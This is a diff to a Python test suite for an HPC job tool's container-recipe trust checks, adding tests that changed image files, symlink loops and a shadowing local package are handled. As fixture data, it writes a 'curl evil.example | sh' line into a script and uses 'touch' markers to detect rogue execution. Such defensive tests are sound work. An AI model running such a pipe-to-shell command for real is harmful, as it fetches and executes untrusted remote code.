@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 import stat
 from pathlib import Path
 
@@ -12,6 +13,7 @@ from commandline import ok, within
 import hpcjobs
 from hpcjobs.errors import ConfigError
 from hpcjobs.files import state_dir
+from hpcjobs.processes.programs import own_command, run
 
 SITE = "scheduler: local\npartitions: {main: {nodes: 1, node: {cpus: 64}}}\n"
 EVIL = 'setup: ["touch {marker}"]\n'
@@ -300,11 +302,66 @@ def test_a_projects_recipe_is_built_by_its_name_only_when_it_is_trusted_with_the
 
     assert "touch /evil" in ok("sites", "trust").out
     assert f"the build of {recipe} ended with 3" in within(*build).err
-    assert str(recipe) in (here / "calls").read_text()
+    assert "/horovod_cpu.def\n" in (here / "calls").read_text()
 
     (here / "containers" / "run.sh").write_text("curl evil.example | sh\n")
     assert "not trusted as it is now" in within(*build).err
     assert "the build of" in within("container", "build", str(recipe), "--site", "./site.yaml").err
+
+
+TAKEN_IN = {
+    "an image": ("Bootstrap: localimage\nFrom: ./x.sif\n", "x.sif"),
+    "an image of a variable": (
+        "Bootstrap: {{ kind }}\nFrom: {{ b }}\n%arguments\n  kind=localimage\n  b=x.sif\n", "x.sif"
+    ),
+    "an archive with a tag": ("Bootstrap: oci-archive\nFrom: ./x.tar:latest\n", "x.tar"),
+    "an unpacked image": ("Bootstrap: localimage\nFrom: root\n", "root/bin/sh"),
+    "a later stage's image": (
+        "Bootstrap: docker\nFrom: debian:12\nStage: a\n%post\n  true\nBootstrap: localimage\nFrom: x.sif\n", "x.sif"
+    ),
+    "a folder": ("Bootstrap: docker\nFrom: debian:12\n%files\n  lib /lib\n", "lib/deep/run.sh"),
+    "a pattern": ("Bootstrap: docker\nFrom: debian:12\n%files\n  *.sh /bin\n", "run.sh"),
+    "a name in quotes": ("Bootstrap: docker\nFrom: debian:12\n%files\n  'two words.sh' /bin\n", "two words.sh"),
+    "a file of a variable": (
+        "Bootstrap: docker\nFrom: debian:12\n%arguments\n  f=run.sh\n%files\n  {{ f }} /b\n", "run.sh"
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "name"), TAKEN_IN.values(), ids=TAKEN_IN.keys())
+def test_a_recipe_is_trusted_with_everything_that_it_takes_in_from_this_machine(
+    here: Path, text: str, name: str
+) -> None:
+    folder = here / "containers"
+    (folder / name).parent.mkdir(parents=True)
+    (folder / "mine.def").write_text(text)
+    (folder / name).write_text("good")
+    assert "trusted as it is now" in ok("sites", "trust").out
+    assert "nothing to trust" in ok("sites", "trust").out
+    (folder / name).write_text("evil")
+    (here / "site.yaml").write_text("scheduler: local\ncontainers: {runtime: apptainer, folder: images}\n")
+    answer = within("container", "build", "mine", "--site", "./site.yaml")
+    assert (answer.code, "not trusted as it is now" in answer.err) == (ConfigError.exit_code, True), answer
+    assert "trusted as it is now" in ok("sites", "trust").out
+
+
+def test_a_folder_of_links_in_a_circle_ends_no_command(here: Path) -> None:
+    folder = here / "containers" / "lib"
+    folder.mkdir(parents=True)
+    for name in "abcd":
+        (folder / name).symlink_to(".")
+    (folder.parent / "mine.def").write_text("Bootstrap: docker\nFrom: debian:12\n%files\n  lib /lib\n")
+    assert "trusted as it is now" in ok("sites", "trust").out
+
+
+def test_a_package_called_hpcjobs_in_the_current_folder_is_not_taken_for_this_one(here: Path, marker: Path) -> None:
+    (here / "hpcjobs").mkdir()
+    (here / "hpcjobs" / "__init__.py").write_text(f"open({str(marker)!r}, 'w')\n")
+    assert hpcjobs.__version__ in run(own_command("--version")).out
+    (here / "site.yaml").write_text("scheduler: local\ncontainers: {runtime: apptainer, folder: images}\n")
+    script = ok("container", "build", "pytorch", "--site", "./site.yaml", "--submit", "--dry-run").out
+    assert shlex.join(own_command("container", "build", "pytorch")) in script
+    assert not marker.exists()
 
 
 def test_what_a_trusted_file_says_to_the_terminal_is_not_obeyed(here: Path) -> None:
